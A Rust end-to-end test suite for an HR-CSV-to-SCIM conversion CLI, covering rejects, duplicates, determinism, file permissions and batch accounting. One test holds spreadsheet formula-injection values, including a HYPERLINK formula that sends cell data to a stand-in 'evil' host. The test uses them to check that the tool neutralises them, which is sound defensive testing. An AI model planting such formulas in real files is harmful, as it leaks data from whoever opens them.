//! End-to-end tests of `hr2scim convert` through the built binary: outputs, rejects, exit codes,
//! determinism, file modes, and the invariant that every row is written or rejected, never both.

use std::collections::HashSet;
use std::fs;
use std::path::Path;

use assert_cmd::Command;
use proptest::prelude::*;

const MAP: &str = r#"
extension hr = "urn:ietf:params:scim:schemas:extension:contoso:1.0:User" { hireDate: dateTime, grade: integer }
externalId = [Id]
userName = ToLower(Join("@", [Login], "contoso.com"))
active = Switch([Status], "false", "Active", "true")
name.givenName = [First]
emails[type eq "Work"].value = IgnoreFlowIfNullOrEmpty([Email])
enterprise:manager.value = IgnoreFlowIfNullOrEmpty([Manager])
hr:hireDate = [Hired]
hr:grade = [Grade]
"#;

fn bin() -> Command {
    Command::cargo_bin("hr2scim").expect("binary")
}

fn write(dir: &Path, name: &str, text: &str) -> String {
    let p = dir.join(name);
    fs::write(&p, text).expect("write");
    p.display().to_string()
}

fn convert(dir: &Path, csv: &str, extra: &[&str]) -> (i32, String) {
    let map = write(dir, "m.map", MAP);
    let input = write(dir, "in.csv", csv);
    let out = dir.join("out");
    let o = bin()
        .args(["convert", &map, &input, "--out"])
        .arg(&out)
        .args(["--quiet", "--now", "2026-01-01T00:00:00Z"])
        .args(extra)
        .output()
        .expect("run");
    (o.status.code().unwrap_or(-1), String::from_utf8_lossy(&o.stderr).into_owned())
}

fn batches(out: &Path) -> Vec<serde_json::Value> {
    let mut names: Vec<_> = fs::read_dir(out)
        .expect("out dir")
        .filter_map(|e| e.ok())
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n.starts_with("bulk-"))
        .collect();
    names.sort();
    names
        .iter()
        .map(|n| serde_json::from_slice(&fs::read(out.join(n)).expect("read")).expect("json"))
        .collect()
}

fn users(out: &Path) -> Vec<serde_json::Value> {
    batches(out)
        .into_iter()
        .flat_map(|b| b["Operations"].as_array().cloned().unwrap_or_default())
        .map(|op| op["data"].clone())
        .collect()
}

fn reject_lines(out: &Path) -> Vec<(String, String)> {
    let mut r = csv::Reader::from_path(out.join("rejects.csv")).expect("rejects.csv");
    r.records().map(|x| x.expect("record")).map(|x| (x[0].to_string(), x[1].to_string())).collect()
}

const HEAD: &str = "Id,Login,Status,First,Email,Manager,Hired,Grade\n";

#[test]
fn writes_typed_users_and_rejects_bad_rows_with_reasons() {
    let dir = tempfile::tempdir().unwrap();
    let csv = format!(
        "{HEAD}1,Ann.Lee,Active,Ann,ann@x.com,,2024-03-01,7\n2,Bo,Inactive,Bo,,1,2024-02-30,3\n3,Cy,Active,Cy,,1,2023-01-01,high\n"
    );
    let (code, err) = convert(dir.path(), &csv, &[]);
    assert_eq!(code, 2, "some rows rejected: {err}");
    let out = dir.path().join("out");
    let u = users(&out);
    assert_eq!(u.len(), 1);
    let ann = &u[0];
    assert_eq!(ann["userName"], "ann.lee@contoso.com");
    assert_eq!(ann["active"], true);
    assert_eq!(ann["emails"][0]["type"], "work", "canonical type is lower-case");
    assert_eq!(ann["urn:ietf:params:scim:schemas:extension:contoso:1.0:User"]["grade"], 7);
    assert_eq!(
        ann["urn:ietf:params:scim:schemas:extension:contoso:1.0:User"]["hireDate"],
        "2024-03-01T00:00:00Z"
    );
    let schemas: Vec<&str> =
        ann["schemas"].as_array().unwrap().iter().map(|s| s.as_str().unwrap()).collect();
    assert!(schemas.contains(&"urn:ietf:params:scim:schemas:core:2.0:User"));
    assert!(schemas.contains(&"urn:ietf:params:scim:schemas:extension:enterprise:2.0:User"));
    assert!(schemas.contains(&"urn:ietf:params:scim:schemas:extension:contoso:1.0:User"));
    let rejects = reject_lines(&out);
    assert_eq!(rejects.len(), 2, "{rejects:?}");
    assert!(rejects[0].0.contains('3') && rejects[0].1.contains("hireDate"), "{rejects:?}");
    assert!(rejects[1].0.contains('4') && rejects[1].1.contains("grade"), "{rejects:?}");
    let summary: serde_json::Value =
        serde_json::from_slice(&fs::read(out.join("summary.json")).unwrap()).unwrap();
    assert_eq!(summary["rows_read"], 3);
    assert_eq!(summary["users_written"], 1);
    assert_eq!(summary["rejected"], 2);
}

#[test]
fn duplicate_external_ids_reject_every_row_naming_the_others() {
    let dir = tempfile::tempdir().unwrap();
    let csv = format!("{HEAD}1,a,Active,A,,,,\n1,b,Active,B,,,,\n2,c,Active,C,,,,\n");
    let (code, _) = convert(dir.path(), &csv, &[]);
    assert_eq!(code, 2);
    let out = dir.path().join("out");
    assert_eq!(users(&out).len(), 1);
    let rejects = reject_lines(&out);
    assert_eq!(rejects.len(), 2);
    assert!(rejects.iter().all(|(_, why)| why.contains("externalId")), "{rejects:?}");

    let dir2 = tempfile::tempdir().unwrap();
    let (code, _) = convert(dir2.path(), &csv, &["--on-duplicate", "first"]);
    let u = users(&dir2.path().join("out"));
    assert_eq!(u.iter().filter(|u| u["externalId"] == "1").count(), 1);
    assert_eq!(u.iter().find(|u| u["externalId"] == "1").unwrap()["userName"], "a@contoso.com");
    assert_eq!(code, 2, "the dropped duplicate is still reported");
}

/// HR values are typed by employees; rejects.csv is opened in Excel by an admin. A value that
/// Excel would run as a formula is written as text (a leading quote), numbers and phone numbers
/// stay readable, the file still reads as CSV with one column per header, and the report shows
/// the values as they were.
#[test]
fn rejects_csv_neutralises_formulas_and_keeps_its_columns() {
    let dir = tempfile::tempdir().unwrap();
    let evil = r#"=HYPERLINK("http://evil/?"&A1,"x")"#;
    // Row 2 is rejected (no such date); every hostile cell is in it, and in a header.
    let csv = format!(
        "{}\n1,a,Active,Ann,,,2024-03-01,7,ok\n2,\"{}\",Active,@SUM(1+1),+49 89 5558796,-5,2024-02-30,3,\"\t=1+1\"\n",
        HEAD.trim_end().to_string() + ",-Note",
        evil.replace('"', "\"\"")
    );
    let (code, err) = convert(dir.path(), &csv, &[]);
    assert_eq!(code, 2, "{err}");
    let out = dir.path().join("out");
    // Not flexible: a record with another number of fields than the header is an error.
    let mut r = csv::Reader::from_path(out.join("rejects.csv")).expect("rejects.csv");
    let head: Vec<String> = r.headers().unwrap().iter().map(str::to_string).collect();
    assert_eq!(head.len(), 11, "{head:?}");
    assert_eq!(head[10], "'-Note");
    let rows: Vec<csv::StringRecord> = r.records().map(|x| x.expect("same columns")).collect();
    assert_eq!(rows.len(), 1);
    let row: Vec<&str> = rows[0].iter().collect();
    assert_eq!(row.len(), 11);
    assert_eq!(row[0], "line 3");
    assert!(row[1].contains("hireDate"), "{row:?}");
    assert_eq!(row[2..5], ["2", format!("'{evil}").as_str(), "Active"]);
    assert_eq!(row[5], "'@SUM(1+1)");
    assert_eq!(row[6], "+49 89 5558796", "a phone number stays readable");
    assert_eq!(row[7], "-5", "a negative number stays a number");
    assert_eq!(row[8..10], ["2024-02-30", "3"]);
    assert_eq!(row[10], "'\t=1+1");
    // The report reads the file back: the original values, HTML-escaped, no quote added.
    let html = fs::read_to_string(out.join("report.html")).unwrap();
    assert!(
        html.contains("Login==HYPERLINK(&quot;http://evil/?&quot;&amp;A1,&quot;x&quot;)"),
        "{html}"
    );
    assert!(html.contains("First=@SUM(1+1)") && html.contains("-Note=\t=1+1"), "{html}");
}

/// Rows rejected by the cross-row checks after their batch was written keep their original
/// fields in rejects.csv: read again from a CSV file, or from the spool for standard input.
#[test]
fn late_rejects_keep_their_original_fields_from_a_file_and_from_stdin() {
    let csv = format!(
        "{HEAD}1,a,Active,\"Ann\nMulti, line\",,,,\n2,c,Active,C,,,,\n1,b,Active,\"B \"\"q\"\"\",,,,\n3,d,Active,D,,,,\n"
    );
    let expected = vec![
        vec!["line 2", "1", "a", "Active", "Ann\nMulti, line", "", "", "", ""],
        vec!["line 5", "1", "b", "Active", "B \"q\"", "", "", "", ""],
    ];
    let full_rejects = |out: &Path| -> Vec<Vec<String>> {
        let mut r = csv::Reader::from_path(out.join("rejects.csv")).expect("rejects.csv");
        r.records()
            .map(|x| x.expect("record"))
            .map(|x| {
                // Position, then the original fields (the reasons column is checked elsewhere).
                let mut v = vec![x[0].to_string()];
                v.extend(x.iter().skip(2).map(str::to_string));
                v
            })
            .collect()
    };
    for stdin in [false, true] {
        let dir = tempfile::tempdir().unwrap();
        let map = write(dir.path(), "m.map", MAP);
        let input = write(dir.path(), "in.csv", &csv);
        let out = dir.path().join("out");
        let mut cmd = bin();
        cmd.args(["convert", &map, if stdin { "-" } else { &input }, "--out"]).arg(&out);
        cmd.args(["--quiet", "--now", "2026-01-01T00:00:00Z"]);
        if stdin {
            cmd.write_stdin(csv.clone());
        }
        let o = cmd.output().expect("run");
        assert_eq!(o.status.code(), Some(2), "{}", String::from_utf8_lossy(&o.stderr));
        assert_eq!(full_rejects(&out), expected, "stdin: {stdin}");
        let ids: Vec<String> =
            users(&out).iter().map(|u| u["externalId"].as_str().unwrap().to_string()).collect();
        assert_eq!(ids, ["2", "3"]);
    }
}

#[test]
fn output_is_identical_whatever_the_number_of_jobs_and_files_are_private() {
    let mut csv = String::from(HEAD);
    for i in 0..2000 {
        csv.push_str(&format!(
            "{i},user{i},Active,F{i},u{i}@x.com,{},2020-01-01,{}\n",
            if i > 0 { (i / 2).to_string() } else { String::new() },
            i % 9
        ));
    }
    let a = tempfile::tempdir().unwrap();
    let b = tempfile::tempdir().unwrap();
    assert_eq!(convert(a.path(), &csv, &["--jobs", "1"]).0, 0);
    assert_eq!(convert(b.path(), &csv, &["--jobs", "2"]).0, 0);
    let (oa, ob) = (a.path().join("out"), b.path().join("out"));
    let ba = batches(&oa);
    assert_eq!(ba.len(), 40);
    assert_eq!(ba, batches(&ob));
    for n in ["bulk-00001.json", "bulk-00040.json"] {
        assert_eq!(fs::read(oa.join(n)).unwrap(), fs::read(ob.join(n)).unwrap());
        #[cfg(unix)]
        {
            use std::os::unix::fs::PermissionsExt;
            assert_eq!(fs::metadata(oa.join(n)).unwrap().permissions().mode() & 0o777, 0o600);
        }
    }
    let ids: Vec<String> =
        users(&oa).iter().map(|u| u["externalId"].as_str().unwrap().to_string()).collect();
    let expected: Vec<String> = (0..2000).map(|i| i.to_string()).collect();
    assert_eq!(ids, expected, "output order is input order");
}

#[test]
fn a_rerun_with_fewer_users_removes_stale_batches() {
    let dir = tempfile::tempdir().unwrap();
    let mut big = String::from(HEAD);
    for i in 0..120 {
        big.push_str(&format!("{i},u{i},Active,F,,,,\n"));
    }
    convert(dir.path(), &big, &[]);
    assert_eq!(batches(&dir.path().join("out")).len(), 3);
    convert(dir.path(), &format!("{HEAD}1,a,Active,A,,,,\n"), &[]);
    assert_eq!(batches(&dir.path().join("out")).len(), 1);
}

#[test]
fn mapping_errors_exit_1_and_write_nothing() {
    let dir = tempfile::tempdir().unwrap();
    let map =
        write(dir.path(), "m.map", "externalId = [Nope]\nuserName = [Id]\nactive = \"true\"\n");
    let input = write(dir.path(), "in.csv", "Id\n1\n");
    let o = bin()
        .args(["convert", &map, &input, "--out"])
        .arg(dir.path().join("out"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(1));
    let err = String::from_utf8_lossy(&o.stderr);
    assert!(err.contains("E020") && err.contains("Nope"), "{err}");
    assert!(!dir.path().join("out").join("bulk-00001.json").exists());
}

#[test]
fn ndjson_to_stdout_streams_users() {
    let dir = tempfile::tempdir().unwrap();
    let map = write(dir.path(), "m.map", MAP);
    let input =
        write(dir.path(), "in.csv", &format!("{HEAD}1,a,Active,A,,,,\n2,b,Inactive,B,,,,\n"));
    let o = bin()
        .args(["convert", &map, &input, "--stdout", "--quiet", "--out"])
        .arg(dir.path().join("out"))
        .output()
        .unwrap();
    assert_eq!(o.status.code(), Some(0));
    let lines: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(lines.len(), 2);
    assert_eq!(lines[1]["active"], false);
}

proptest! {
    #![proptest_config(ProptestConfig { cases: 12, .. ProptestConfig::default() })]
    /// Every row is written or rejected, never both and never neither; batches hold at most the
    /// batch size, bulkIds are unique, every file is valid JSON.
    #[test]
    fn every_row_lands_exactly_once(rows in proptest::collection::vec((0u8..40, any::<bool>(), 0u8..4), 1..160), size in 1u16..=50) {
        let dir = tempfile::tempdir().unwrap();
        let mut csv = String::from(HEAD);
        for (id, active, grade) in &rows {
            let grade = if *grade == 3 { "x".to_string() } else { grade.to_string() };
            csv.push_str(&format!("{id},u{id},{},F,,,,{grade}\n", if *active { "Active" } else { "Gone" }));
        }
        let size_s = size.to_string();
        let (code, err) = convert(dir.path(), &csv, &["--batch-size", &size_s]);
        prop_assert!(code == 0 || code == 2, "{}", err);
        let out = dir.path().join("out");
        let mut bulk_ids = HashSet::new();
        let mut written = 0usize;
        for b in batches(&out) {
            let ops = b["Operations"].as_array().unwrap();
            prop_assert!(!ops.is_empty() && ops.len() <= size as usize);
            for op in ops {
                prop_assert!(bulk_ids.insert(op["bulkId"].as_str().unwrap().to_string()));
                prop_assert_eq!(&op["method"], "POST");
                prop_assert_eq!(&op["path"], "/Users");
                written += 1;
            }
        }
        let rejected = reject_lines(&out).len();
        prop_assert_eq!(written + rejected, rows.len());
        // Batches are numbered without gaps, and nothing hidden (parts, spools) is left behind
        // but the output directory's lock file, empty once the run is over, and the manifest
        // of the files the run wrote.
        let mut names: Vec<String> = fs::read_dir(&out)
            .unwrap()
            .map(|e| e.unwrap().file_name().to_string_lossy().into_owned())
            .collect();
        names.sort();
        let n = batches(&out).len();
        let mut expected: Vec<String> = (1..=n).map(|k| format!("bulk-{k:05}.json")).collect();
        expected.extend(
            [".hr2scim.lock", "rejects.csv", "report.html", "schemas.json", "summary.json"].map(String::from),
        );
        let manifest: serde_json::Value =
            serde_json::from_slice(&fs::read(out.join(".hr2scim-manifest.json")).unwrap()).unwrap();
        let mut listed: Vec<String> = manifest["files"]
            .as_array()
            .unwrap()
            .iter()
            .map(|f| f["name"].as_str().unwrap().to_string())
            .collect();
        listed.push(".hr2scim.lock".into());
        listed.sort();
        expected.sort();
        prop_assert_eq!(&listed, &expected);
        // Besides the manifest: runs/, which keeps this run's report, rejects and summary.
        expected.extend([".hr2scim-manifest.json".into(), "runs".into()]);
        expected.sort();
        prop_assert_eq!(names, expected);
        prop_assert_eq!(fs::read(out.join(".hr2scim.lock")).unwrap().len(), 0);
    }
}
